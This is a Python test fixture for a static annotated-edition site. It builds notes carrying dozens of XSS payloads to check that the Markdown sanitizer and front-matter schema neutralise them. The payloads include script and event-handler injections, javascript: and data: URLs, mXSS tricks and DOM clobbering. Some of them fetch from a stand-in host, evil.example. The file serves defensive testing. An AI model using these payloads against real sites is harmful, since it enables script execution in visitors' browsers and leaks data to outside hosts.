"""A corpus of hostile notes: XSS vectors a stranger's pull request could carry.

Each vector tries to run script in a reader's browser, fetch something from another host, or
borrow the page's look, and names itself in its sentinel (``window.__xss='b06'``,
``alert('b06')``, or a request to ``evil.example/b06``), so a failing test says which one got
through. ``build_hostile_project`` writes one note per vector into a copy of the real project:
one site holds them all.

- ``BODY`` vectors sit in a note's Markdown body, once inline in its first paragraph (which the
  statement page shows in the phrase popover) and once as a block of their own.
- ``FRONT_MATTER`` vectors sit in a front-matter string that lands in the page: a title, an
  author's name or address, a source's title, publisher or address. They are valid notes:
  the text must come out literally, as typed, and inert.
- ``REJECTED`` vectors are front matter the schema refuses, so the build stops with a clear
  error instead of publishing them.
"""

from __future__ import annotations

import datetime as _dt

import base64
from dataclasses import dataclass
from pathlib import Path

import yaml

from annotated_edition import edition_config_for
from annotated_edition.sources.anchoring import find_quote
from annotated_edition.sources.edition import load_edition

__all__ = ["Vector", "BODY", "FRONT_MATTER", "REJECTED", "build_hostile_project", "note_path",
           "HOSTILE_DOCUMENT", "EVIL_HOST"]

EVIL_HOST = "evil.example"
HOSTILE_DOCUMENT = "singapore-2018"


@dataclass(frozen=True)
class Vector:
    id: str
    description: str
    payload: str
    field: str = "body"     # body | title | author | author_url | source_title | publisher | source_url
    removed: bool = True    # body vectors: the sanitizer must report a removal
    literal: str = ""       # text that must appear, as typed, on the page (nothing silently lost)

    @property
    def slug(self) -> str:
        return f"xss-{self.id}"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


BODY: list[Vector] = [
    Vector("b01", "script element", "<script>window.__xss='b01'</script>"),
    Vector("b02", "script element, mixed case", "<ScRiPt>alert('b02')</sCrIpT>"),
    Vector("b03", "external script", f'<script src="https://{EVIL_HOST}/b03.js"></script>'),
    Vector("b04", "script split around a nested script", "<scr<script>ipt>window.__xss='b04'</scr</script>ipt>"),
    Vector("b05", "script with a data: source", "<script/xss src=\"data:text/javascript,alert('b05')\"></script>"),
    Vector("b06", "img onerror", "<img src=x onerror=\"window.__xss='b06'\">"),
    Vector("b07", "img onerror, slashes for spaces (Markdown leaves it as text)", "<img/src=x/onerror=alert('b07')>",
           removed=False, literal="<img/src=x/onerror=alert('b07')>"),
    Vector("b08", "svg onload", "<svg onload=\"window.__xss='b08'\"></svg>"),
    Vector("b09", "script inside svg", "<svg><script>alert('b09')</script></svg>"),
    Vector("b10", "svg animate setting a javascript: href",
           "<svg><a><animate attributeName=\"href\" values=\"javascript:alert('b10')\"/>"
           "<text x=\"20\" y=\"20\">b10</text></a></svg>"),
    Vector("b11", "MathML link", "<math><mtext><a href=\"javascript:alert('b11')\">b11</a></mtext></math>"),
    Vector("b12", "MathML/style namespace confusion (mXSS)",
           "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='b12'\">"
           "</style></mglyph></table></mtext></math>"),
    Vector("b13", "iframe with a javascript: source", "<iframe src=\"javascript:alert('b13')\"></iframe>"),
    Vector("b14", "iframe srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.__xss='b14'&lt;/script&gt;\"></iframe>"),
    Vector("b15", "object with javascript: data", "<object data=\"javascript:alert('b15')\"></object>"),
    Vector("b16", "embed with a data: HTML source", "<embed src=\"data:text/html,<script>alert('b16')</script>\">"),
    Vector("b17", "javascript: link", "<a href=\"javascript:window.__xss='b17'\">b17 link</a>", literal="b17 link"),
    Vector("b18", "javascript: link, mixed case and leading spaces",
           "<a href=\"  JaVaScRiPt:alert('b18')\">b18 link</a>", literal="b18 link"),
    Vector("b19", "javascript: link, decimal entities",
           "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('b19')\">b19 link</a>",
           literal="b19 link"),
    Vector("b20", "javascript: link, hex entity tab inside the scheme",
           "<a href=\"jav&#x09;ascript:alert('b20')\">b20 link</a>", literal="b20 link"),
    Vector("b21", "javascript: link, named entity colon", "<a href=\"javascript&colon;alert('b21')\">b21 link</a>",
           literal="b21 link"),
    Vector("b22", "data: HTML link, base64",
           f"<a href=\"data:text/html;base64,{_b64(chr(60) + 'script>alert(' + chr(39) + 'b22' + chr(39) + ')</script>')}\">b22 link</a>",
           literal="b22 link"),
    Vector("b23", "vbscript: link", "<a href=\"vbscript:msgbox('b23')\">b23 link</a>", literal="b23 link"),
    Vector("b24", "Markdown link to javascript:", "[b24 link](javascript:alert('b24'))", literal="b24 link"),
    Vector("b25", "Markdown link to javascript:, angle-bracketed", "[b25 link](<javascript:window.__xss='b25'>)",
           literal="b25 link"),
    Vector("b26", "Markdown image with a javascript: source", "![b26](javascript:alert('b26'))"),
    Vector("b27", "Markdown image from another host (a request leaving the page)",
           f"![b27](https://{EVIL_HOST}/b27.png)"),
    Vector("b28", "Markdown image title breaking out into an attribute",
           "![b28](x \"a\\\" onerror=\\\"window.__xss='b28'\")"),
    Vector("b29", "Markdown reference link defined as javascript:",
           "[b29 link][r29]\n\n[r29]: javascript:alert('b29')", literal="b29 link"),
    Vector("b30", "autolink-looking javascript: (Markdown leaves it as text)", "<javascript:alert('b30')>",
           removed=False, literal="<javascript:alert('b30')>"),
    Vector("b31", "autolink with a quote breaking out", f"<https://{EVIL_HOST}/\" onmouseover=\"alert('b31')>",
           removed=False),
    Vector("b32", "Markdown link title breaking out into an attribute",
           "[b32 link](https://ok.example/ \"x\\\" onmouseover=\\\"window.__xss='b32'\")", removed=False,
           literal="b32 link"),
    Vector("b33", "style element loading from another host",
           f"<style>body{{background:url('https://{EVIL_HOST}/b33.png')}}</style>"),
    Vector("b34", "style attribute loading from another host",
           f"<span style=\"background-image:url(https://{EVIL_HOST}/b34.png)\">b34 text</span>", literal="b34 text"),
    Vector("b35", "stylesheet link", f"<link rel=\"stylesheet\" href=\"https://{EVIL_HOST}/b35.css\">"),
    Vector("b36", "meta refresh to javascript:", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('b36')\">"),
    Vector("b37", "base element redirecting every relative link", f"<base href=\"https://{EVIL_HOST}/b37/\">"),
    Vector("b38", "form posting to javascript:",
           "<form action=\"javascript:alert('b38')\"><button type=\"submit\">b38 button</button></form>",
           literal="b38 button"),
    Vector("b39", "autofocus input with onfocus", "<input autofocus onfocus=\"window.__xss='b39'\">"),
    Vector("b40", "details ontoggle", "<details open ontoggle=\"alert('b40')\"><summary>b40 summary</summary></details>",
           literal="b40 summary"),
    Vector("b41", "body onload", "<body onload=\"alert('b41')\">"),
    Vector("b42", "video source onerror", "<video><source onerror=\"window.__xss='b42'\"></video>"),
    Vector("b43", "audio onerror", "<audio src=x onerror=\"alert('b43')\"></audio>"),
    Vector("b44", "marquee onstart", "<marquee onstart=\"alert('b44')\">b44 text</marquee>", literal="b44 text"),
    Vector("b45", "event handlers on an allowed element",
           "<strong onclick=\"window.__xss='b45'\" onmouseover=\"window.__xss='b45'\">b45 hover me</strong>",
           literal="b45 hover me"),
    Vector("b46", "comment breakout", "<!--<img src=\"--><img src=x onerror=\"alert('b46')\">-->"),
    Vector("b47", "noscript parsing difference (mXSS)",
           "<noscript><p title=\"</noscript><img src=x onerror=alert('b47')>\"></noscript>"),
    Vector("b48", "broken attribute quoting", "<img \"\"\"><script>alert('b48')</script>\">"),
    Vector("b49", "title element breakout", "<title><img src=x onerror=\"alert('b49')\"></title>"),
    Vector("b50", "template content", "<template><img src=x onerror=\"alert('b50')\"></template>"),
    Vector("b51", "DOM clobbering of the sentinel by id and name", "<a id=\"__xss\" name=\"__xss\" href=\"#\">b51 link</a>",
           literal="b51 link"),
    Vector("b52", "theme classes to imitate the page's own dialog",
           "<span class=\"md-dialog md-dialog--active\">b52 fake dialog</span>", literal="b52 fake dialog"),
    Vector("b53", "reverse tabnabbing (target and rel=opener)",
           "<a href=\"https://ok.example/\" target=\"_blank\" rel=\"opener\">b53 link</a>", literal="b53 link"),
    Vector("b54", "protocol-relative link to another host", f"<a href=\"//{EVIL_HOST}/b54\">b54 link</a>",
           literal="b54 link"),
    Vector("b55", "script in a code span (must show as text)", "`<script>window.__xss='b55'</script>`",
           removed=False, literal="<script>window.__xss='b55'</script>"),
    Vector("b56", "script in a fenced code block (must show as text)",
           "\n```html\n<script>alert('b56')</script>\n```\n", removed=False, literal="<script>alert('b56')</script>"),
    Vector("b57", "entity-encoded script (must show as text)", "&lt;script&gt;alert('b57')&lt;/script&gt;",
           removed=False, literal="<script>alert('b57')</script>"),
    Vector("b58", "xlink:href inside svg",
           "<svg><a xlink:href=\"javascript:alert('b58')\"><text x=\"0\" y=\"10\">b58</text></a></svg>"),
    Vector("b59", "custom element with a handler", "<x-b59 onclick=\"alert('b59')\">b59 text</x-b59>",
           literal="b59 text"),
    Vector("b60", "srcset from another host", f"<img srcset=\"https://{EVIL_HOST}/b60.png 1x\">"),
    Vector("b61", "upper-case IMG with a javascript: source (Markdown leaves it as text)",
           "<IMG SRC=JaVaScRiPt:alert('b61')>", removed=False, literal="<IMG SRC=JaVaScRiPt:alert('b61')>"),
    Vector("b62", "img with an SVG data: source",
           "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">"),
    Vector("b63", "javascript: in a quotation's cite", "<q cite=\"javascript:alert('b63')\">b63 quoted</q>",
           literal="b63 quoted"),
    Vector("b64", "CSS import from another host", f"<style>@import 'https://{EVIL_HOST}/b64.css';</style>"),
    Vector("b65", "unscoped id hijacking a clause anchor", "<span id=\"point-3\">b65 text</span>", literal="b65 text"),
]

FRONT_MATTER: list[Vector] = [
    Vector("y01", "title: script element", "<script>window.__xss='y01'</script>", field="title"),
    Vector("y02", "title: attribute breakout", "\"><img src=x onerror=\"window.__xss='y02'\">", field="title"),
    Vector("y03", "title: single-quote attribute breakout", "'><svg onload=alert('y03')>", field="title"),
    Vector("y04", "title: attribute list injection into the heading",
           "Heading { onclick=\"window.__xss='y04'\" #point-3 .md-dialog }", field="title"),
    Vector("y05", "title: Markdown link to javascript:", "[click](javascript:alert('y05'))", field="title"),
    Vector("y06", "title: entity-encoded element (must show as typed)", "&lt;img src=x onerror=alert('y06')&gt;",
           field="title"),
    Vector("y07", "title: comment then script", "<!-- --><script>alert('y07')</script>", field="title"),
    Vector("y08", "title: blank line then a raw HTML block",
           "A title\n\n<img src=x onerror=\"window.__xss='y08'\">", field="title"),
    Vector("y09", "author name: script element", "<script>alert('y09')</script>", field="author"),
    Vector("y10", "author name: attribute breakout", "\" onmouseover=\"window.__xss='y10'", field="author"),
    Vector("y11", "author address: attribute breakout without spaces",
           "https://example.org/\"onmouseover=\"window.__xss='y11'\"x=\"", field="author_url"),
    Vector("y12", "author address: single-quote breakout",
           "https://example.org/'onfocus='alert(&#39;y12&#39;)'autofocus='", field="author_url"),
    Vector("y13", "source title: closing the cite element", "</cite><script>alert('y13')</script>",
           field="source_title"),
    Vector("y14", "publisher: img onerror", "<img src=x onerror=alert('y14')>", field="publisher"),
    Vector("y15", "source address: element breakout", "https://example.org/\"><script>alert('y15')</script>",
           field="source_url"),
    Vector("y16", "source address: javascript: after a fragment", "https://example.org/#javascript:alert('y16')",
           field="source_url"),
]

# Front matter the schema must refuse: the build stops and names the field.
REJECTED: list[Vector] = [
    Vector("r01", "author address with the javascript: scheme", "javascript:alert('r01')", field="author_url"),
    Vector("r02", "source address with a data: URL", "data:text/html,<script>alert('r02')</script>",
           field="source_url"),
    Vector("r03", "source address, upper-case JAVASCRIPT:", "JAVASCRIPT:alert('r03')", field="source_url"),
    Vector("r04", "author address with a leading space", " https://example.org/", field="author_url"),
    Vector("r05", "source address with a space and a handler",
           "https://example.org/ onmouseover=alert('r05')", field="source_url"),
    Vector("r06", "source address, protocol-relative", f"//{EVIL_HOST}/r06", field="source_url"),
    Vector("r07", "author address with the vbscript: scheme", "vbscript:msgbox('r07')", field="author_url"),
]


def _clause_quotes(project: Path) -> dict[str, str]:
    """For each clause, the shortest run of its opening words that occurs in it exactly once."""
    edition = load_edition(edition_config_for(project))
    quotes = {}
    for clause in edition.documents[HOSTILE_DOCUMENT].clauses:
        words = clause.text.split(" ")
        for count in range(2, len(words) + 1):
            candidate = " ".join(words[:count])
            if "\n" not in candidate and find_quote(clause.text, candidate).span is not None:
                quotes[clause.id] = candidate
                break
    return quotes


def note_text(vector: Vector, clause: str, quote: str, date: str) -> str:
    front = {
        "target": f"{HOSTILE_DOCUMENT}/{clause}",
        "quote": quote,
        "title": f"Vector {vector.id}: {vector.description}",
        "authors": [{"name": "Hostile contributor"}],
        "date": date,
        "sources": [{"id": "test-source", "title": "Test source", "publisher": "Test publisher",
                     "url": "https://example.org/source"}],
    }
    if vector.field == "title":
        front["title"] = vector.payload
    elif vector.field == "author":
        front["authors"] = [{"name": vector.payload}]
    elif vector.field == "author_url":
        front["authors"] = [{"name": f"Author {vector.id}", "url": vector.payload}]
    elif vector.field == "source_title":
        front["sources"][0]["title"] = vector.payload
    elif vector.field == "publisher":
        front["sources"][0]["publisher"] = vector.payload
    elif vector.field == "source_url":
        front["sources"][0]["url"] = vector.payload
    if vector.field == "body":
        # The citation comes first, so no payload (an unclosed comment or code span) can hide it.
        body = (f"Vector {vector.id}: [@test-source] {vector.payload} End of {vector.id}.\n\n{vector.payload}\n\n"
                f"Last paragraph of {vector.id}.\n")
    else:
        body = f"Vector {vector.id} [@test-source] is in the front matter ({vector.description}).\n"
    dumped = yaml.safe_dump(front, sort_keys=False, allow_unicode=True, width=10_000)
    return f"---\n{dumped}---\n{body}"


def note_path(project: Path, clause: str, vector: Vector) -> Path:
    return project / "docs" / "commentary" / HOSTILE_DOCUMENT / clause / f"{vector.slug}.md"


def build_hostile_project(project: Path, vectors: list[Vector]) -> dict[str, str]:
    """Write one note per vector, spread over the statement's clauses; return slug → clause.
    Title vectors get the newest dates, so the home page's "newest notes" shows them."""
    quotes = _clause_quotes(project)
    clauses = list(quotes)
    placed: dict[str, str] = {}
    for index, vector in enumerate(vectors):
        clause = clauses[index % len(clauses)]
        # Hostile titles are the newest notes, so the home page's "newest notes" shows them too;
        # today is the latest date a note may have (a future date is refused).
        date = _dt.date.today().isoformat() if vector.field == "title" else "2020-01-01"
        path = note_path(project, clause, vector)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(note_text(vector, clause, quotes[clause], date), encoding="utf-8")
        placed[vector.slug] = clause
    return placed
